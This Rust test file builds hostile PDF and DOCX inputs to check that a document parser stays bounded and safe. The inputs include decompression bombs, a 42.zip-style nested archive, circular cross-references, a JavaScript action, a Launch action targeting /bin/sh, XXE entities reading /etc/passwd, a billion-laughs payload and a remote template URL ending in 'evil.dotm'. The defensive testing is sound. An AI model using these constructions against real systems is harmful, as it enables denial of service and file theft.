//! Files that others use to bring readers down: each ends within twelve seconds, in an answer that says something, and
//! leaves this process as it was.

use std::time::{Duration, Instant};

use super::super::{DocumentError, DocumentText, Kind};
use super::{
    children::child,
    files::{RELATIONS, TYPES, deflated, docx_of, pages, paragraph, pdf, show, stream, zip},
    pdf::locked,
};
use crate::testing::{memory_from_here, most_memory};

/// A file whose cross-references are a packed stream: `count` numbers in one packed stream, besides a page that says hello.
fn packed_objects(count: usize) -> Vec<u8> {
    let mut out = b"%PDF-1.5\n".to_vec();
    let mut places = vec![0];
    let mut head = String::new();
    for at in 0..count {
        head.push_str(&format!("{} {} ", at + 7, 2 * at));
    }
    let body = "0 ".repeat(count);
    let all = deflated(format!("{head}{body}").as_bytes());
    let objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /Font << /F1 3 0 R >> >> >>".to_vec(),
        show(&[(72, 700, "hello")]),
        stream(&format!("/Type /ObjStm /N {count} /First {} /Filter /FlateDecode", head.len()), &all),
    ];
    for (at, object) in objects.iter().enumerate() {
        places.push(out.len());
        out.extend(format!("{} 0 obj\n", at + 1).bytes());
        out.extend(object);
        out.extend(b"\nendobj\n");
    }
    let start = out.len();
    let size = count + 8;
    let mut table = vec![0_u8; 9];
    for place in &places[1..] {
        table.push(1);
        table.extend(u32::try_from(*place).expect("fits").to_be_bytes());
        table.extend([0; 4]);
    }
    for at in 0..count {
        table.push(2);
        table.extend(6_u32.to_be_bytes());
        table.extend(u32::try_from(at).expect("fits").to_be_bytes());
    }
    table.push(1);
    table.extend(u32::try_from(start).expect("fits").to_be_bytes());
    table.extend([0; 4]);
    let number = size - 1;
    let references = stream(
        &format!("/Type /XRef /Size {size} /W [1 4 4] /Root 1 0 R /Filter /FlateDecode"),
        &deflated(&table),
    );
    out.extend(format!("{number} 0 obj\n").bytes());
    out.extend(references);
    out.extend(format!("\nendobj\nstartxref\n{start}\n%%EOF\n").bytes());
    out
}

fn bomb(mebibytes: usize) -> Vec<u8> {
    let block = vec![b' '; 1 << 20];
    let mut packed = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::fast());
    for _ in 0..mebibytes {
        std::io::Write::write_all(&mut packed, &block).expect("packed");
    }
    packed.finish().expect("packed")
}

/// A page that says hello, and these objects besides it; `catalogue` and `page` go into theirs.
fn beside(catalogue: &str, page: &str, extra: Vec<Vec<u8>>) -> Vec<u8> {
    let mut objects = vec![
        format!("<< /Type /Catalog /Pages 2 0 R {catalogue} >>").into_bytes(),
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_vec(),
        format!("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R {page} >>").into_bytes(),
        stream("", b"BT /F1 12 Tf 72 700 Td (hello) Tj ET q 99 0 0 99 0 0 cm /I Do Q"),
    ];
    objects.extend(extra);
    pdf(&objects, "")
}

const FONT: &str = "/Resources << /Font << /F1 3 0 R >> /XObject << /I 6 0 R >> >>";

fn hostile_pdfs() -> Vec<(&'static str, Vec<u8>)> {
    let bomb = bomb(700);
    let nested = "[".repeat(10_380) + &"]".repeat(10_380);
    let image = |data: &[u8], filter: &str| {
        let size = "/Width 100000 /Height 100000 /BitsPerComponent 1 /ColorSpace /DeviceGray";
        stream(&format!("/Type /XObject /Subtype /Image {size} /Filter {filter}"), data)
    };
    // A segment that announces a page of 2^32 - 1 by 2^32 - 1 dots.
    let jbig2 = [b"\0\0\0\0\x30\0\x01\0\0\0\x13".as_slice(), &[0xff; 8], &[0; 11]].concat();
    let script = "/OpenAction << /S /JavaScript /JS (app.launchURL\\(1\\)) >>";
    let launch = "/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>";
    let inside =
        "/Names << /EmbeddedFiles << /Names [(a.pdf) << /Type /Filespec /F (a.pdf) /EF << /F 6 0 R >> >>] >> >>";
    let font = "/Resources << /Font << /F1 3 0 R >> >>";
    let mut looped = pages(&[show(&[(72, 700, "hello")])], "/Prev 0000");
    let start = looped.windows(4).position(|part| part == b"xref").expect("a table");
    let at = looped
        .windows(10)
        .position(|part| part == b"/Prev 0000")
        .expect("an entry")
        + 6;
    looped[at..at + 4].copy_from_slice(format!("{start:04}").as_bytes());
    vec![
        ("RUSTSEC-2026-0187", beside(&format!("/X {nested}"), font, vec![])),
        ("cross-references in a circle", looped),
        ("a million objects", packed_objects(1_000_000)),
        (
            "a packed bomb as a page",
            pages(&[stream("/Filter /FlateDecode", &bomb)], ""),
        ),
        (
            "a packed bomb as a picture",
            beside("", FONT, vec![image(&bomb, "/FlateDecode")]),
        ),
        ("a JBIG2 bomb", beside("", FONT, vec![image(&jbig2, "/JBIG2Decode")])),
        ("encrypted", locked("owner", "user")),
        ("a script", beside(script, font, vec![])),
        ("a launch action", beside(launch, font, vec![])),
        (
            "an embedded bomb",
            beside(
                inside,
                font,
                vec![stream("/Type /EmbeddedFile /Filter /FlateDecode", &bomb)],
            ),
        ),
        ("501 pages", pages(&vec![show(&[(72, 700, "x")]); 501], "")),
    ]
}

#[tokio::test]
async fn every_hostile_pdf_comes_to_an_end() {
    let files = hostile_pdfs();
    let before = memory_from_here();
    for (what, file) in &files {
        assert!(file.len() <= super::super::LARGEST_FILE, "{what}: {} bytes", file.len());
        let started = Instant::now();
        // Beside it, somebody else's file, which must not notice.
        let good = pages(&[show(&[(72, 700, "Three bedrooms")])], "");
        let (read, other) = tokio::join!(child(Kind::Pdf, file), child(Kind::Pdf, &good));
        let took = started.elapsed();
        println!("{what}: {took:?}, {:?}", read.as_ref().map(|read| &read.text));
        assert!(took <= Duration::from_secs(12), "{what}: {took:?}");
        assert_eq!(other.expect("text").text, "Three bedrooms");
        match read {
            Ok(DocumentText { text, .. }) => assert_eq!(text, "hello", "{what}"),
            Err(error) => assert!(error.to_string().len() > 20, "{what}: {error}"),
        }
    }
    // Ours holds the files themselves; what they unpack to is the child's trouble.
    let grown = most_memory().saturating_sub(before);
    assert!(grown <= 64 << 20, "{grown} bytes more");
}

#[tokio::test]
async fn what_the_child_may_take_is_what_is_promised() {
    assert_eq!(
        child(Kind::Pdf, &locked("owner", "user")).await,
        Err(DocumentError::Encrypted)
    );
    let many = pages(&vec![show(&[(72, 700, "x")]); 501], "");
    assert_eq!(child(Kind::Pdf, &many).await, Err(DocumentError::TooManyPages));
    let limits = super::super::child::LIMITS;
    assert_eq!(limits, (10, 512 << 20));
    assert_eq!((super::super::MOST_TEXT, super::super::MOST_PAGES), (10 << 20, 500));
}

fn hostile_archives() -> Vec<(&'static str, Vec<u8>)> {
    let part = format!("<w:document><w:body>{}</w:body></w:document>", paragraph("hello"));
    let zeros = vec![0_u8; 1 << 20];
    // Each level holds sixteen of the one below, as 42.zip does.
    let mut nested = zip(&[("0", &zeros)]);
    for _ in 0..4 {
        let names: Vec<String> = (0..16).map(|at| at.to_string()).collect();
        let entries: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), nested.as_slice())).collect();
        nested = zip(&entries);
    }
    let attributes: String = (0..1_000_000).map(|at| format!(" a{at}=\"\"")).collect();
    let spaces: String = (0..1_000_000).map(|at| format!(" xmlns:a{at}=\"x\"")).collect();
    let names: Vec<String> = (0..1_001).map(|at| format!("x{at}")).collect();
    let mut many: Vec<(&str, &[u8])> = vec![("_rels/.rels", RELATIONS), ("word/document.xml", part.as_bytes())];
    many.extend(names.iter().map(|name| (name.as_str(), b"x".as_slice())));
    let outside = r#"<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY g SYSTEM "http://10.0.0.7/x">]>"#;
    let laughs: String = (1..10)
        .map(|at| format!("<!ENTITY l{at} \"{}\">", format!("&l{};", at - 1).repeat(10)))
        .collect();
    let within = |prologue: &str, text: &str| {
        docx_of(&format!(
            "<?xml version=\"1.0\"?>{prologue}<w:document><w:body>{}</w:body></w:document>",
            paragraph(text)
        ))
    };
    vec![
        ("an archive of archives", nested),
        (
            "a million attributes",
            docx_of(&format!("<w:document><w:body><w:p{attributes}/></w:body></w:document>")),
        ),
        (
            "a million name spaces",
            docx_of(&format!("<w:document{spaces}><w:body/></w:document>")),
        ),
        ("1,003 entries", zip(&many)),
        (
            "a bomb of text",
            docx_of(&format!(
                "<w:document><w:body><w:p><w:r>{}",
                format!("<w:t>{}</w:t>", "a".repeat(4_000)).repeat(50_000)
            )),
        ),
        ("entities from outside", within(outside, "&f;&g;")),
        (
            "a billion laughs",
            within(&format!("<!DOCTYPE x [<!ENTITY l0 \"ha\">{laughs}]>"), "&l9;"),
        ),
    ]
}

/// Read in this very process, so that its memory and time are the reader's own.
#[test]
fn every_hostile_archive_is_refused_quickly_and_cheaply() {
    for (what, file) in hostile_archives() {
        let before = memory_from_here();
        let started = Instant::now();
        let read = super::parse(Kind::Docx, &file);
        let took = started.elapsed();
        let grown = most_memory().saturating_sub(before);
        println!(
            "{what}: {} bytes, {took:?}, {} KiB more, {:?}",
            file.len(),
            grown >> 10,
            read.as_ref().err()
        );
        assert!(read.is_err(), "{what}");
        assert!(took < Duration::from_secs(2), "{what}: {took:?}");
        assert!(grown <= 64 << 20, "{what}: {grown} bytes more");
    }
}

#[test]
fn a_template_from_elsewhere_is_never_asked_for() {
    let settings = br#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://10.0.0.7/evil.dotm" TargetMode="External"/></Relationships>"#;
    let part = format!("<w:document><w:body>{}</w:body></w:document>", paragraph("hello"));
    let file = zip(&[
        ("[Content_Types].xml", TYPES),
        ("_rels/.rels", RELATIONS),
        ("word/document.xml", part.as_bytes()),
        ("word/_rels/settings.xml.rels", settings),
        (
            "word/settings.xml",
            br#"<w:settings><w:attachedTemplate r:id="rId1"/></w:settings>"#,
        ),
    ]);
    // The reader has neither a dialer nor the right to open a socket: see `a_child_may_not_open_files_or_take_much`.
    assert_eq!(super::parse(Kind::Docx, &file).expect("text").text, "hello");
}
